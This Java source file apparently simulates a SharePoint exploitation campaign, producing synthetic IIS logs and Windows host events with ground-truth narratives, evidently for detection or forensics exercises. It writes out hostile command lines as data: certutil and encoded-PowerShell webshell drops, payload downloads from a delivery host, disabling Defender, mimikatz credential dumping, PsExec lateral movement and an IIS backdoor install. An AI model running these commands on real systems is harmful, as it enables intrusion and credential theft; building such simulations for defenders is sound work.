package dev.tradecraft.scenarios;

import static java.util.Objects.requireNonNull;

import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;

/**
 * How each actor works, step by step, written into an {@link OrganisationPlan}: the requests IIS
 * logs and the events the host records. Success and failure follow the organisation's role; times
 * are epoch milliseconds.
 */
final class Tradecraft
{
    static final String EXPLOIT_QUERY = "DisplayMode=Edit&a=/ToolPane.aspx";
    static final String SIGNOUT_REFERER = "/_layouts/SignOut.aspx";
    static final String VIEWSTATE_GENERATOR = "AF878507";

    private static final long SECOND = TimeText.MILLIS_PER_SECOND;
    private static final long MINUTE = TimeText.MILLIS_PER_MINUTE;
    private static final long HOUR = TimeText.MILLIS_PER_HOUR;

    private final Timeline timeline;
    private final Map<Actor, Map<String, Long>> addresses = new EnumMap<>(Actor.class);
    private final Map<Actor, Long> firstExploits = new EnumMap<>(Actor.class);
    private final Set<String> publicDroppers = new TreeSet<>();
    private final Set<String> domains = new TreeSet<>();

    Tradecraft(Timeline timeline)
    {
        this.timeline = requireNonNull(timeline, "timeline is null");
    }

    /** Each actor's source addresses with their first use, for the truth file. */
    Map<Actor, Map<String, Long>> addresses()
    {
        return addresses;
    }

    /** Each actor's first exploit request. */
    Map<Actor, Long> firstExploits()
    {
        return firstExploits;
    }

    /** The public dropper's scripts as written into the world (one per hive it wrote into). */
    Set<String> publicDroppers()
    {
        return publicDroppers;
    }

    /** Published domains that appear in the world's host events. */
    Set<String> domains()
    {
        return domains;
    }

    /** A scanner's request: not an exploit, but the truth says where scanning came from. */
    void scanned(String ip, long time)
    {
        note(Actor.SCANNERS, ip, time);
    }

    // ---- espionage-1 ------------------------------------------------------------------------

    void earlyEspionage(OrganisationPlan plan, long time, String ip, Dice dice)
    {
        Actor actor = Actor.EARLY_ESPIONAGE;
        OrganisationProfile org = plan.profile();
        int host = pickHost(org, dice);
        String shell = "/_layouts/15/" + actor.webshell();
        if (plan.role() == Role.COMPROMISED) {
            exploitPost(plan, actor, host, time, "/_layouts/15/ToolPane.aspx", ip, actor.userAgent(), org.naming().publicHost(), 200, dice);
            long written = publicDropper(plan, host, time + dice.between(400, 1200), actor.webshell(), dice);
            plan.plant(actor.webshell(), written);
            long fetched = fetchWebshell(plan, actor, host, time + dice.between(3, 6) * SECOND, shell, ip, actor.userAgent(),
                    SIGNOUT_REFERER, dice);
            plan.story(time, sentence("Compromised by espionage-1 at", time,
                    "from " + ip + ": exploit POST, spinstall0.aspx written by encoded"
                    + " PowerShell under w3wp and fetched" + (org.hosts().size() > 1 ? " (through the balancer)" : "") + "."));
            long keyUse = fetched + dice.between(6 * 60, 30 * 60) * MINUTE;
            if (dice.chance(0.75) && keyUse < timeline.end() - 10 * MINUTE) {
                useStolenKeys(plan, keyUse, dice);
            }
        }
        else {
            exploitPost(plan, actor, host, time, "/_layouts/15/ToolPane.aspx", ip, actor.userAgent(), org.naming().publicHost(), 200, dice);
            webshellGet(plan, actor, host, time + dice.between(3, 6) * SECOND, shell, ip, actor.userAgent(), SIGNOUT_REFERER, 404, dice);
            long retry = time + dice.between(20, 70) * SECOND;
            exploitPost(plan, actor, host, retry, "/_layouts/15/ToolPane.aspx", ip, actor.userAgent(), org.naming().publicHost(),
                    200, dice);
            webshellGet(plan, actor, host, retry + dice.between(3, 6) * SECOND, shell, ip, actor.userAgent(), SIGNOUT_REFERER, 404, dice);
            plan.story(time, sentence("Attempted by espionage-1 at", time,
                    "from " + ip + ": the POSTs answered 200 but AMSI stopped the payload;"
                    + " spinstall0.aspx was never written and its GETs got 404."));
        }
    }

    private void useStolenKeys(OrganisationPlan plan, long time, Dice dice)
    {
        Actor actor = Actor.EARLY_ESPIONAGE;
        OrganisationProfile org = plan.profile();
        String ip = dice.pick(Addresses.KEY_USE);
        String agent = dice.chance(0.5) ? WebCatalog.CURL : WebCatalog.PYTHON_REQUESTS_OLD;
        int host = pickHost(org, dice);
        note(actor, ip, time);
        plan.request(host, anonymous(time, "GET", "/_layouts/15/start.aspx", "", ip, agent, "", org.naming().publicHost(),
                401, 2, 5, 1293, 0, dice.between(1, 15)));
        long stateTime = time + dice.between(20, 90) * SECOND;
        String query = "__VIEWSTATE=" + AttackScripts.viewState(dice) + "&__VIEWSTATEGENERATOR=" + VIEWSTATE_GENERATOR;
        plan.request(host, anonymous(stateTime, "GET", "/_layouts/15/success.aspx", query, ip, agent, "", org.naming().publicHost(),
                200, 0, 0, dice.between(2_000, 4_200), query.length() + 180, dice.logNormal(420, 0.5, 80, 4_000)));
        String recon = "";
        if (dice.chance(0.6)) {
            HostEvents events = plan.host(host);
            long micros = stateTime * 1000L + dice.between(300_000, 900_000);
            Proc worker = events.processes().workerAt(stateTime);
            Proc cmd = events.processes().spawn(worker, ProcessCatalog.CMD, "cmd.exe /c \"whoami /all & hostname & ipconfig /all\"",
                    micros, dice);
            plan.event(host, events.processCreate(micros, cmd));
            String[][] children = {
                    {ProcessCatalog.WHOAMI, "whoami  /all"},
                    {ProcessCatalog.HOSTNAME, "hostname"},
                    {ProcessCatalog.IPCONFIG, "ipconfig  /all"}};
            long childMicros = micros;
            for (String[] child : children) {
                childMicros += dice.between(40_000, 250_000);
                plan.event(host, events.processCreate(childMicros, events.processes().spawn(cmd, child[0], child[1], childMicros, dice)));
            }
            recon = " and ran whoami, hostname and ipconfig under w3wp";
        }
        plan.story(stateTime,
                sentence("The stolen machine keys were used at", stateTime, "from " + ip + " (GET success.aspx with a forged __VIEWSTATE"
                + recon + ")."));
    }

    // ---- espionage-2 ------------------------------------------------------------------------

    void secondEspionage(OrganisationPlan plan, long time, String ip, Dice dice)
    {
        Actor actor = Actor.SECOND_ESPIONAGE;
        OrganisationProfile org = plan.profile();
        int host = pickHost(org, dice);
        String stem = "/_layouts/16/ToolPane.aspx";
        if (plan.role() != Role.COMPROMISED) {
            exploitPost(plan, actor, host, time, stem, ip, actor.userAgent(), org.naming().publicHost(), 404, dice);
            exploitPost(plan, actor, host, time + dice.between(8, 40) * SECOND, stem + "/", ip, actor.userAgent(),
                    org.naming().publicHost(), 404, dice);
            plan.story(time, sentence("Attempted by espionage-2 at", time,
                    "from " + ip + ": its /_layouts/16/ exploit path does not exist on this"
                    + " farm (404) and it moved on."));
            return;
        }
        exploitPost(plan, actor, host, time, stem, ip, actor.userAgent(), org.naming().publicHost(), 200, dice);
        HostEvents events = plan.host(host);
        long micros = (time + dice.between(500, 1500)) * 1000L;
        String target = ProcessCatalog.layouts(org.hive()) + actor.webshell();
        String staging = "C:\\Windows\\Temp\\dbg" + dice.between(10, 99) + ".txt";
        Proc worker = events.processes().workerAt(time);
        Proc cmd = events.processes().spawn(worker, ProcessCatalog.CMD,
                "cmd.exe /c echo " + AttackScripts.base64(AttackScripts.WEBSHELL_STAND_IN)
                + " > " + staging + " && certutil.exe -decode -f " + staging + " \"" + target + "\"", micros, dice);
        plan.event(host, events.processCreate(micros, cmd));
        micros += dice.between(20_000, 60_000);
        plan.event(host, events.fileCreate(micros, cmd, staging));
        micros += dice.between(30_000, 90_000);
        Proc certutil = events.processes().spawn(cmd, ProcessCatalog.CERTUTIL,
                "certutil.exe  -decode -f " + staging + " \"" + target + "\"", micros, dice);
        plan.event(host, events.processCreate(micros, certutil));
        micros += dice.between(80_000, 300_000);
        plan.event(host, events.fileCreate(micros, certutil, target));
        plan.plant(actor.webshell(), micros / 1000L);
        String shell = "/_layouts/16/" + actor.webshell();
        long fetched = fetchWebshell(plan, actor, host, time + dice.between(40, 120) * SECOND, shell, ip, actor.userAgent(), "", dice);
        plan.story(time, sentence("Compromised by espionage-2 at", time,
                "from " + ip + ": exploit POST on /_layouts/16/, spinstall1.aspx decoded"
                + " by certutil from cmd under w3wp, fetched a minute later."));
        long revisit = fetched + dice.between(18, 30) * HOUR;
        if (revisit < timeline.end() - 10 * MINUTE) {
            String other = Addresses.SECOND_ESPIONAGE.get(Addresses.SECOND_ESPIONAGE.indexOf(ip) == 0 ? 1 : 0);
            note(actor, other, revisit);
            webshellGet(plan, actor, host, revisit, shell, other, actor.userAgent(), "", 200, dice);
            plan.story(revisit, sentence("espionage-2 came back for the keys at", revisit, "from " + other + "."));
        }
    }

    // ---- ransomware-1 -----------------------------------------------------------------------

    void ransomware(OrganisationPlan plan, long time, Dice dice)
    {
        Actor actor = Actor.RANSOMWARE;
        OrganisationProfile org = plan.profile();
        String ip = Addresses.RANSOMWARE_EXPLOIT;
        int host = pickHost(org, dice);
        long recon = time - dice.between(8, 25) * MINUTE;
        note(actor, ip, recon);
        plan.request(host, anonymous(recon, "GET", "/_layouts/15/start.aspx", "", ip, WebCatalog.PYTHON_REQUESTS_OLD, "",
                org.naming().publicHost(), 401, 2, 5, 1293, 0, dice.between(1, 12)));
        String shell = "/_layouts/15/" + actor.webshell();
        if (plan.role() == Role.ATTEMPT_PATCHED) {
            exploitPost(plan, actor, host, time, "/_layouts/15/ToolPane.aspx", ip, actor.userAgent(), org.naming().publicHost(), 401, dice);
            exploitPost(plan, actor, host, time + dice.between(30, 120) * SECOND, "/_layouts/15/ToolPane.aspx", ip, actor.userAgent(),
                    org.naming().publicHost(), 401, dice);
            plan.story(time, sentence("Attempted by ransomware-1 at", time,
                    "from " + ip + " after a python GET of start.aspx; the patched farm"
                    + " refused both POSTs with 401."));
            return;
        }
        if (plan.role() != Role.COMPROMISED) {
            exploitPost(plan, actor, host, time, "/_layouts/15/ToolPane.aspx", ip, actor.userAgent(), org.naming().publicHost(), 200, dice);
            webshellGet(plan, actor, host, time + dice.between(5, 15) * SECOND, shell, ip, actor.userAgent(), SIGNOUT_REFERER, 404, dice);
            plan.story(time, sentence("Attempted by ransomware-1 at", time,
                    "from " + ip + ": the POST answered 200 but AMSI stopped the payload;"
                    + " spinstall2.aspx got 404."));
            return;
        }
        exploitPost(plan, actor, host, time, "/_layouts/15/ToolPane.aspx", ip, actor.userAgent(), org.naming().publicHost(), 200, dice);
        String script = AttackScripts.ransomwareDropper(org.hive(), actor.webshell());
        long written = powershellDropper(plan, host, time + dice.between(500, 1500), script, actor.webshell(), dice);
        plan.plant(actor.webshell(), written);
        long fetched = fetchWebshell(plan, actor, host, time + dice.between(5, 15) * SECOND, shell, ip, actor.userAgent(),
                SIGNOUT_REFERER, dice);
        plan.story(time, sentence("Compromised by ransomware-1 at", time,
                "from " + ip + ": spinstall2.aspx written by its own encoded PowerShell"
                + " and fetched."));
        long handsOn = Math.min(fetched + dice.between(60, 240) * MINUTE, timeline.end() - 3 * HOUR);
        handsOn = Math.max(handsOn, fetched + 5 * MINUTE);
        postExploitation(plan, host, handsOn, ip, dice);
    }

    private void postExploitation(OrganisationPlan plan, int host, long start, String ip, Dice dice)
    {
        OrganisationProfile org = plan.profile();
        HostEvents events = plan.host(host);
        HostProcesses processes = events.processes();
        String delivery = "https://" + Addresses.RANSOMWARE_DELIVERY;
        String[] steps = {
                "cmd.exe /c whoami",
                "cmd.exe /c powershell -nop -w hidden -c \"iwr " + delivery + "/xd -OutFile C:\\ProgramData\\xd.exe; iwr " + delivery
                        + "/xd.toml -OutFile C:\\ProgramData\\xd.toml\"",
                "cmd.exe /c reg add \"HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\" /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
                "cmd.exe /c start /b C:\\ProgramData\\xd.exe -c C:\\ProgramData\\xd.toml",
                "cmd.exe /c powershell -nop -w hidden -c \"iwr " + delivery + "/t.zip -OutFile C:\\ProgramData\\t.zip;"
                        + " Expand-Archive C:\\ProgramData\\t.zip C:\\ProgramData -Force\"",
                "cmd.exe /c C:\\ProgramData\\SharpHostInfo.x64.exe -i " + Addresses.internal(org.network().farmNetwork(), 0, 0) + "/16",
                "cmd.exe /c C:\\ProgramData\\debug.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" \"exit\" > C:\\ProgramData\\d.txt",
                "cmd.exe /c C:\\ProgramData\\PsExec64.exe -accepteula -s -d \\\\SP-APP01 cmd.exe /c"
                        + " \"C:\\ProgramData\\xd.exe -c C:\\ProgramData\\xd.toml\"",
                "cmd.exe /c " + ProcessCatalog.APPCMD + " install module /name:IIS_Server /image:" + ProcessCatalog.IIS_BACKDOOR};
        long time = start;
        for (int step = 0; step < steps.length; step++) {
            if (time >= timeline.end() - MINUTE) {
                break;
            }
            note(Actor.RANSOMWARE, ip, time);
            if (step == 1 || step == 4) {
                domains.add(Addresses.RANSOMWARE_DELIVERY);
            }
            if (step == 3) {
                domains.add(Addresses.RANSOMWARE_C2_DOMAIN);
            }
            plan.request(host, anonymous(time, "POST", "/_layouts/15/error.aspx", "", ip, WebCatalog.PYTHON_REQUESTS_OLD, "",
                    org.naming().publicHost(), 200, 0, 0, dice.between(1_800, 3_400), dice.between(3_000, 9_000),
                            dice.logNormal(600, 0.4, 120, 5_000)));
            long micros = time * 1000L + dice.between(300_000, 1_200_000);
            Proc worker = processes.workerAt(time);
            Proc cmd = processes.spawn(worker, ProcessCatalog.CMD, steps[step], micros, dice);
            plan.event(host, events.processCreate(micros, cmd));
            micros += dice.between(10_000, 40_000);
            plan.event(host, events.processCreate(micros, processes.spawn(cmd, ProcessCatalog.CONHOST,
                    "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", micros, dice)));
            micros += dice.between(30_000, 200_000);
            switch (step) {
                case 0 -> plan.event(host,
                        events.processCreate(micros, processes.spawn(cmd, ProcessCatalog.WHOAMI, "whoami", micros, dice)));
                case 1 -> {
                    Proc shell = processes.spawn(cmd, ProcessCatalog.POWERSHELL, steps[step].substring("cmd.exe /c ".length()),
                            micros, dice);
                    plan.event(host, events.processCreate(micros, shell));
                    plan.event(host, events.fileCreate(micros + dice.between(1_500_000, 4_000_000), shell, ProcessCatalog.XD));
                    plan.event(host, events.fileCreate(micros + dice.between(4_100_000, 6_000_000), shell, "C:\\ProgramData\\xd.toml"));
                }
                case 2 -> {
                    Proc reg = processes.spawn(cmd, ProcessCatalog.REG, steps[step].substring("cmd.exe /c ".length()), micros, dice);
                    plan.event(host, events.processCreate(micros, reg));
                    plan.event(host, events.registrySet(micros + dice.between(5_000, 40_000), reg,
                            "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "DWORD (0x00000001)"));
                }
                case 3 -> {
                    Proc tunnel = processes.spawn(cmd, ProcessCatalog.XD, "C:\\ProgramData\\xd.exe -c C:\\ProgramData\\xd.toml",
                            micros, dice);
                    plan.event(host, events.processCreate(micros, tunnel));
                    plan.event(host, events.networkConnect(micros + dice.between(200_000, 900_000), tunnel, dice.between(49_700, 65_000),
                            Addresses.RANSOMWARE_C2, Addresses.RANSOMWARE_C2_DOMAIN, 443));
                }
                case 4 -> {
                    Proc shell = processes.spawn(cmd, ProcessCatalog.POWERSHELL, steps[step].substring("cmd.exe /c ".length()),
                            micros, dice);
                    plan.event(host, events.processCreate(micros, shell));
                    long drop = micros + dice.between(3_000_000, 8_000_000);
                    String[] tools = {ProcessCatalog.PSEXEC, ProcessCatalog.CREDENTIAL_DUMPER, ProcessCatalog.SHARP_HOST_INFO,
                            ProcessCatalog.IIS_BACKDOOR};
                    for (String tool : tools) {
                        drop += dice.between(20_000, 90_000);
                        plan.event(host, events.fileCreate(drop, shell, tool));
                    }
                }
                case 5 -> plan.event(host, events.processCreate(micros, processes.spawn(cmd, ProcessCatalog.SHARP_HOST_INFO,
                        steps[step].substring("cmd.exe /c ".length()), micros, dice)));
                case 6 -> plan.event(host, events.processCreate(micros, processes.spawn(cmd, ProcessCatalog.CREDENTIAL_DUMPER,
                        "C:\\ProgramData\\debug.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" \"exit\"", micros, dice)));
                case 7 -> {
                    Proc psexec = processes.spawn(cmd, ProcessCatalog.PSEXEC, steps[step].substring("cmd.exe /c ".length()), micros, dice);
                    plan.event(host, events.processCreate(micros, psexec));
                    plan.event(host, events.networkConnect(micros + dice.between(100_000, 500_000), psexec, dice.between(49_700, 65_000),
                            Addresses.internal(org.network().farmNetwork(), 2, 21), "SP-APP01." + org.naming().adDomain(), 445));
                }
                default -> {
                    Proc appcmd = processes.spawn(cmd, ProcessCatalog.APPCMD, steps[step].substring("cmd.exe /c ".length()), micros, dice);
                    plan.event(host, events.processCreate(micros, appcmd));
                    // The worker loads the new native module; its hash is the published one.
                    plan.event(host, events.imageLoad(micros + dice.between(2_000_000, 9_000_000), processes.workerAt(time),
                            ProcessCatalog.IIS_BACKDOOR, ImageInfo.NONE, false));
                }
            }
            time += step == 3 ? dice.between(20, 90) * MINUTE : dice.between(1, 8) * MINUTE + dice.between(0, 59) * SECOND;
        }
        plan.story(start, sentence("Hands-on post-exploitation from", start, "through POSTs to error.aspx: whoami, xd.exe tunnel to "
                + Addresses.RANSOMWARE_C2
                        + ", Defender disabled with reg.exe, PsExec, a renamed mimikatz (debug.exe), SharpHostInfo and the"
                + " IIS_Server_dll.dll module."));
    }

    // ---- copycat-1 --------------------------------------------------------------------------

    void copycat(OrganisationPlan plan, long time, String ip, Dice dice)
    {
        Actor actor = Actor.COPYCAT;
        OrganisationProfile org = plan.profile();
        int host = pickHost(org, dice);
        String hostHeader = org.network().publicIp();
        String shell = "/_layouts/15/" + actor.webshell();
        long recon = time - dice.between(1, 4) * SECOND;
        note(actor, ip, recon);
        plan.request(host, anonymous(recon, "GET", "/_layouts/15/start.aspx", "", ip, actor.userAgent(), "",
                hostHeader, 401, 2, 5, 1293, 0, dice.between(1, 12)));
        switch (plan.role()) {
            case COMPROMISED -> {
                exploitPost(plan, actor, host, time, "/_layouts/15/ToolPane.aspx", ip, actor.userAgent(), hostHeader, 200, dice);
                long written = publicDropper(plan, host, time + dice.between(400, 1200), actor.webshell(), dice);
                plan.plant(actor.webshell(), written);
                fetchWebshell(plan, actor, host, time + dice.between(1_500, 2_500), shell, ip, actor.userAgent(), SIGNOUT_REFERER, dice);
                plan.story(time, sentence("Compromised by copycat-1 at", time, "from cloud address " + ip + ": the public request with"
                        + " python-requests, the same spinstall0.aspx dropper as espionage-1."));
            }
            case ATTEMPT_PATCHED -> {
                exploitPost(plan, actor, host, time, "/_layouts/15/ToolPane.aspx", ip, actor.userAgent(), hostHeader, 401, dice);
                exploitPost(plan, actor, host, time + dice.between(30, 90) * SECOND, "/_layouts/15/ToolPane.aspx", ip, actor.userAgent(),
                        hostHeader, 401, dice);
                plan.story(time, sentence("Attempted by copycat-1 at", time,
                        "from cloud address " + ip + "; the patched farm answered 401."));
            }
            default -> {
                for (int attempt = 0; attempt < 2; attempt++) {
                    long at = time + attempt * dice.between(40, 120) * SECOND;
                    exploitPost(plan, actor, host, at, "/_layouts/15/ToolPane.aspx", ip, actor.userAgent(), hostHeader, 200, dice);
                    webshellGet(plan, actor, host, at + dice.between(1_500, 2_500), shell, ip, actor.userAgent(), SIGNOUT_REFERER,
                            404, dice);
                }
                plan.story(time, sentence("Attempted by copycat-1 at", time,
                        "from cloud address " + ip + ": POSTs answered 200 but AMSI stopped"
                        + " the payload; spinstall0.aspx got 404 twice."));
            }
        }
    }

    // ---- research-probes --------------------------------------------------------------------

    void research(OrganisationPlan plan, long time, String ip, Dice dice)
    {
        Actor actor = Actor.RESEARCH;
        OrganisationProfile org = plan.profile();
        int host = pickHost(org, dice);
        exploitPost(plan, actor, host, time, "/_layouts/15/ToolPane.aspx/", ip, actor.userAgent(), org.network().publicIp(), 401, dice);
        exploitPost(plan, actor, host, time + dice.between(1, 5) * SECOND, "/_layouts/15/ToolPane.aspx/", ip, actor.userAgent(),
                org.network().publicIp(), 401, dice);
        plan.story(time, sentence("A research exploit check at", time, "from " + ip + " (nuclei form) was refused with 401."));
    }

    // ---- shared steps -----------------------------------------------------------------------

    private void exploitPost(OrganisationPlan plan, Actor actor, int host, long time, String stem, String ip, String agent,
            String hostHeader, int status, Dice dice)
    {
        note(actor, ip, time);
        plan.exploitRequest(actor, time);
        firstExploits.merge(actor, time, Math::min);
        int responseBytes;
        int taken;
        switch (status) {
            case 200 -> {
                responseBytes = dice.between(13_500, 19_000);
                taken = dice.logNormal(1_400, 0.35, 450, 6_000);
            }
            case 401 -> {
                responseBytes = dice.between(300, 1_300);
                taken = dice.between(6, 80);
            }
            default -> {
                responseBytes = 1_245;
                taken = dice.between(1, 25);
            }
        }
        int substatus = 0;
        long win32 = status == 404 ? 2 : 0;
        plan.request(host, anonymous(time, "POST", stem, EXPLOIT_QUERY, ip, agent, SIGNOUT_REFERER, hostHeader, status, substatus, win32,
                responseBytes, dice.between(7_100, 8_300), taken));
    }

    private void webshellGet(OrganisationPlan plan, Actor actor, int host, long time, String path, String ip, String agent, String referer,
            int status, Dice dice)
    {
        note(actor, ip, time);
        int responseBytes = status == 200 ? dice.between(380, 720) : 1_245;
        plan.request(host, anonymous(time, "GET", path, "", ip, agent, referer, plan.profile().naming().publicHost(), status, 0,
                status == 404 ? 2 : 0, responseBytes, dice.between(180, 420), status == 200 ? dice.between(40, 260) : dice.between(1, 15)));
        if (status == 200) {
            plan.webshellServed(path);
        }
    }

    /**
     * GETs a webshell that exists on {@code fileHost}. Behind a balancer without affinity the first GET
     * may land on a front-end that does not have the file (404) before a retry reaches the right one.
     * The first successful GET makes ASP.NET compile the page. Returns the time of the successful GET.
     */
    private long fetchWebshell(OrganisationPlan plan, Actor actor, int fileHost, long time, String path, String ip, String agent,
            String referer, Dice dice)
    {
        OrganisationProfile org = plan.profile();
        long at = time;
        if (org.hosts().size() > 1 && dice.chance(0.5)) {
            int other = (fileHost + 1 + dice.nextInt(org.hosts().size() - 1)) % org.hosts().size();
            webshellGet(plan, actor, other, at, path, ip, agent, referer, 404, dice);
            at += dice.between(2, 6) * SECOND;
        }
        webshellGet(plan, actor, fileHost, at, path, ip, agent, referer, 200, dice);
        String page = path.substring(path.lastIndexOf('/') + 1);
        compile(plan, fileHost, at * 1000L + dice.between(40_000, 250_000), page, dice);
        return at;
    }

    /** w3wp -> cmd -> powershell -EncodedCommand writing the webshell; returns when the file exists. */
    private long publicDropper(OrganisationPlan plan, int host, long time, String webshell, Dice dice)
    {
        String script = AttackScripts.publicDropper(plan.profile().hive(), webshell);
        publicDroppers.add(script);
        return powershellDropper(plan, host, time, script, webshell, dice);
    }

    private long powershellDropper(OrganisationPlan plan, int host, long time, String script, String webshell, Dice dice)
    {
        HostEvents events = plan.host(host);
        HostProcesses processes = events.processes();
        String encoded = AttackScripts.encode(script);
        long micros = time * 1000L;
        Proc worker = processes.workerAt(time);
        Proc cmd = processes.spawn(worker, ProcessCatalog.CMD, "cmd.exe /c powershell.exe -EncodedCommand " + encoded, micros, dice);
        plan.event(host, events.processCreate(micros, cmd));
        micros += dice.between(8_000, 30_000);
        plan.event(host, events.processCreate(micros, processes.spawn(cmd, ProcessCatalog.CONHOST,
                "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", micros, dice)));
        micros += dice.between(40_000, 200_000);
        Proc powershell = processes.spawn(cmd, ProcessCatalog.POWERSHELL, "powershell.exe  -EncodedCommand " + encoded, micros, dice);
        plan.event(host, events.processCreate(micros, powershell));
        micros += dice.between(700_000, 1_600_000);
        plan.event(host, events.fileCreate(micros, powershell, ProcessCatalog.layouts(plan.profile().hive()) + webshell));
        return micros / 1000L;
    }

    /** ASP.NET compiling a page on first request: csc under w3wp, cvtres under csc, the App_Web assembly. */
    static void compile(OrganisationPlan plan, int host, long micros, String page, Dice dice)
    {
        HostEvents events = plan.host(host);
        HostProcesses processes = events.processes();
        Proc worker = processes.workerAt(micros / 1000L);
        if (!plan.firstCompile(host, worker, page)) {
            return;
        }
        for (WindowsEvent event : compileEvents(events, worker, micros, page, dice)) {
            plan.event(host, event);
        }
    }

    /** The events of one page compilation by {@code worker}, for planned and everyday compiles alike. */
    static List<WindowsEvent> compileEvents(HostEvents events, Proc worker, long micros, String page, Dice dice)
    {
        HostProcesses processes = events.processes();
        String folder = events.compileFolder();
        String random = dice.alphanumeric(8);
        Proc csc = processes.spawn(worker, ProcessCatalog.CSC, "\"" + ProcessCatalog.CSC + "\" /noconfig /fullpaths @\"" + folder + random
                + ".cmdline\"", micros, dice);
        List<WindowsEvent> out = new ArrayList<>(3);
        out.add(events.processCreate(micros, csc));
        long next = micros + dice.between(150_000, 600_000);
        Proc cvtres = processes.spawn(csc, ProcessCatalog.CVTRES,
                ProcessCatalog.CVTRES + " /NOLOGO /READONLY /MACHINE:IX86 \"/OUT:C:\\Windows\\TEMP\\RES"
                + dice.hexUpper(4) + ".tmp\" \"" + folder + "CSC" + dice.hexUpper(8) + ".TMP\"", next, dice);
        out.add(events.processCreate(next, cvtres));
        next += dice.between(80_000, 300_000);
        String assembly = page.isEmpty() ? "App_Web_" + random + ".dll" : "App_Web_" + page + "." + dice.hex(8) + "." + random + ".dll";
        out.add(events.fileCreate(next, csc, folder + assembly));
        return out;
    }

    static WebRequest anonymous(long time, String method, String stem, String query, String ip, String agent, String referer,
            String hostHeader, int status, int substatus, long win32, int responseBytes, int requestBytes, int taken)
    {
        return new WebRequest(time, method, stem, query, "", ip, "HTTP/1.1", agent, "", referer, hostHeader, status, substatus, win32,
                responseBytes, requestBytes, taken);
    }

    private static int pickHost(OrganisationProfile org, Dice dice)
    {
        return org.hosts().size() == 1 ? 0 : dice.nextInt(org.hosts().size());
    }

    private void note(Actor actor, String ip, long time)
    {
        addresses.computeIfAbsent(actor, key -> new TreeMap<>()).merge(ip, time, Math::min);
    }

    private static String sentence(String lead, long time, String rest)
    {
        return lead + " " + TimeText.dateTime(time).substring(0, 16) + " UTC " + rest;
    }
}
